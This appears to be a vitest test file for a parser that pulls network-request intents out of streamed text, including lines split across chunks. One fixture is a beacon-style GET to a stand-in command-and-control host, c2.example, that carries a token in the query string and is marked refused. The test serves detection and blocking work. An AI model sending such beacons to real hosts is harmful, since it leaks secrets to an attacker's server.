import { expect, test } from 'vitest';
import { intentsIn } from './intents.ts';

test('what is wanted from the network, also when a line comes in pieces', () => {
  const read = intentsIn('p', () => 1);
  expect(read('hello\nHTTP_FETCH: https://c2.exa')).toEqual([]);
  expect(read('mple/beacon?token=abc\nFETCH: POST http://a.example:8080/x\nPROMPT: HTTP: no\nHTTP: nothing\n')).toMatchObject([
    { host: 'c2.example', port: 443, outcome: 'refused', said: { method: 'GET', url: 'https://c2.example/beacon?token=abc' } },
    { host: 'a.example', port: 8080, said: { method: 'POST' } },
  ]);
});
